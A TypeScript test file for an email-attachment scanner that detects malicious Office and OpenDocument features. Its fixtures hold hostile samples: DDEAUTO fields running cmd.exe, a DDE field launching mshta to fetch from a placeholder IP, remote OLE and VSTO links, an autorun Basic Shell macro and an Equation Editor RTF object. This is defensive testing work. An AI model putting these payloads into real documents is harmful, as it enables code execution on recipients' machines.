import {
  aMail,
  doc,
  docx,
  equationObject,
  odt,
  ole1Embedded,
  opcPackage,
  richText,
  urlMonikerObject,
  xlsx,
} from '@sekisho/specimens'
import { describe, expect, test } from 'vitest'
import { inspected, spoke } from '../../testing/inspected.ts'
import { placeOf } from './place.ts'

const of = async (file: Parameters<ReturnType<typeof aMail>['attaching']>[0]) => inspected(aMail().attaching(file))
/** As it stands in the text of a binary document. */
const marked = (...instructions: string[]): string => instructions.map((text) => `\x13 ${text} \x14値\x15`).join('')

describe('office.dde-field', () => {
  test.each([
    ['docx, split over runs', docx({ fields: [['D', 'DEAU', 'TO c:\\\\windows\\\\system32\\\\', 'cmd.exe "/k calc.exe"']] })],
    ['doc', doc({ text: marked('DDE mshta "http://192.0.2.1/x" y') })],
    ['doc, in numbers', doc({ text: '\x13 \x13 QUOTE 68 68 69 \x14\x15 cmd "/c calc" \x14値\x15' })],
  ])('%s', async (_, file) => {
    const inspection = await of(file)
    expect(spoke(inspection)).toContain('office.dde-field')
    expect(inspection.verdict).toBe('malicious')
  })

  test('without a program it is doubtful', async () => {
    expect((await of(docx({ fields: [['DDE Excel "C:\\\\work\\\\a.xls" R1C1']] }))).verdict).toBe('suspicious')
  })

  test.each([
    docx({ text: 'DDEAUTO cmd.exe について', fields: [['PAGE'], ['TOC \\o "1-3"'], ['DATE \\@ "yyyy"'], ['MERGEFIELD DDE']] }),
    doc({ text: `DDE ${marked('HYPERLINK "https://www.example.com/"', 'PAGE')}` }),
  ])('other fields and the word alone are silent: %#', async (file) => {
    const inspection = await of(file)
    expect(spoke(inspection)).toEqual([])
    expect(inspection.verdict).toBe('clean')
  })

  test('hyperlinks of fields are links', async () => {
    const inspection = await of(doc({ text: marked('HYPERLINK "https://www.example.com/a"') }))
    expect(inspection.artifacts[0]?.links).toEqual(['https://www.example.com/a'])
  })
})

describe('office.external-object', () => {
  test.each([
    [
      'a link object to a page',
      docx({ embedded: [{ name: 'oleObject1.bin', bytes: urlMonikerObject('http://x.test/a.rtf') }] }),
      'malicious',
    ],
    [
      'a link object to a workbook',
      docx({ embedded: [{ name: 'oleObject1.bin', bytes: urlMonikerObject('https://x.test/a.xlsx') }] }),
      'suspicious',
    ],
    ['a text from the web', docx({ fields: [['INCLUDETEXT "http://x.test/a.htm"']] }), 'suspicious'],
    ['a picture on a share elsewhere', docx({ fields: [['INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a\\\\b.png"']] }), 'suspicious'],
    [
      'a linked workbook at an address',
      doc({ text: marked('LINK Excel.Sheet.8 "http://192.0.2.1/a.xls" R1C1 \\a') }),
      'malicious',
    ],
  ])('%s', async (_, file, verdict) => {
    const inspection = await of(file)
    expect(spoke(inspection)).toContain('office.external-object')
    expect(inspection.verdict).toBe(verdict)
  })

  test.each([
    ['a linked workbook on a drive', doc({ text: marked('LINK Excel.Sheet.8 "C:\\\\work\\\\a.xls" R1C1 \\a') })],
    [
      'a linked workbook on a share of the office',
      doc({ text: marked('LINK Excel.Sheet.8 "\\\\\\\\server\\\\a.xls" R1C1 \\a') }),
    ],
    ['a picture on the web', docx({ fields: [['INCLUDEPICTURE "https://x.test/a.png" \\d']] })],
    ['a picture on a share of the office', docx({ fields: [['INCLUDEPICTURE "\\\\\\\\192.168.1.2\\\\a\\\\b.png"']] })],
    ['links and an embedded workbook', docx({ links: ['https://www.example.com/'], embedded: [xlsx()] })],
  ])('silent for %s', async (_, file) => {
    expect((await of(file)).verdict).toBe('clean')
  })
})

describe('office.vsto-assembly', () => {
  test.each([
    ['http://x.example.com/a.vsto|b6d9|vstolocal', 'malicious'],
    ['\\\\192.0.2.1\\a\\a.vsto', 'malicious'],
    ['a.vsto|b6d9|vstolocal', 'suspicious'],
  ])('%s is %s', async (target, verdict) => {
    const inspection = await of(docx({ customProperties: { _AssemblyLocation: target } }))
    expect(spoke(inspection)).toContain('office.vsto-assembly')
    expect(inspection.verdict).toBe(verdict)
  })

  test('other properties are silent', async () => {
    const inspection = await of(docx({ customProperties: { 文書番号: '総務 12', ContentTypeId: '0x0101' } }))
    expect(spoke(inspection)).toEqual([])
  })
})

describe('OpenDocument', () => {
  const basic = 'Sub Main\n  Shell("calc.exe")\nEnd Sub'

  test('Basic that starts with the document', async () => {
    const inspection = await of(odt({ basic, onLoad: 'Main' }))
    expect(spoke(inspection)).toContain('macro.autorun-executes')
    expect(inspection.artifacts[0]?.macros).toMatchObject([{ module: 'Module1', language: 'basic', autorun: ['Main'] }])
  })

  test.each([odt({ links: ['https://www.example.com/'] }), odt({ basic: 'Sub Main\n  MsgBox "合計"\nEnd Sub' }), odt({ basic })])(
    'without a start it waits: %#',
    async (file) => {
      expect((await of(file)).verdict).toBe('clean')
    },
  )
})

describe('parts that are documents of their own', () => {
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const withChunk = (name: string, contentType: string, content: Uint8Array) =>
    opcPackage({
      name: '資料.docx',
      type: word,
      parts: [
        {
          name: 'word/document.xml',
          contentType: `${word}.main+xml`,
          content: '<w:document xmlns:w="w"><w:altChunk/></w:document>',
        },
        { name, contentType, content },
      ],
      relations: {
        '': [{ id: 'r1', type: 'officeDocument', target: 'word/document.xml' }],
        'word/document.xml': [{ id: 'r1', type: 'aFChunk', target: `/${name}` }],
      },
    })
  const attack = richText({ objects: [{ className: 'Equation.3', data: ole1Embedded('Equation.3', equationObject()) }] }).bytes

  test.each([
    ['word/afchunk.rtf', 'application/rtf'],
    ['word/chunk.xml', 'application/xml'],
    ['word/chunk.xml', 'application/rtf'],
  ])('altChunk %s of type %s is looked into', async (name, contentType) => {
    expect(spoke(await of(withChunk(name, contentType, attack)))).toContain('rtf.equation-editor')
  })

  test('a harmless one is harmless', async () => {
    expect((await of(withChunk('word/chunk.rtf', 'application/rtf', richText().bytes))).verdict).toBe('clean')
  })
})

describe('where a document would go', () => {
  test.each([
    ['http://192.0.2.1/x', 'address'],
    ['file://192.0.2.1/x', 'address'],
    ['\\\\192.0.2.1\\x', 'address'],
    ['http://3221225985/x', 'address'],
    ['\\\\x.example.com@SSL\\x', 'program'],
    ['mhtml:http://x.example.com!x', 'program'],
    ['https://x.example.com/a!', 'program'],
    ['ms-msdt:/id', 'program'],
    ['https://x.example.com/a', 'web'],
    ['\\\\x.example.com\\share', 'share'],
    ['file://x.example.com/share', 'share'],
    ['\\\\server\\share', 'office'],
    ['file:///\\\\192.168.0.5\\share', 'office'],
    ['file:///C:\\a.dot', 'drive'],
    ['X:\\a.dot', 'drive'],
    ['file:///X:/%E6%A7%98.dot', 'drive'],
    ['Normal.dotm', 'near'],
    ['../media/a.png', 'near'],
  ])('%s is %s', (target, place) => {
    expect(placeOf(target)).toBe(place)
  })
})
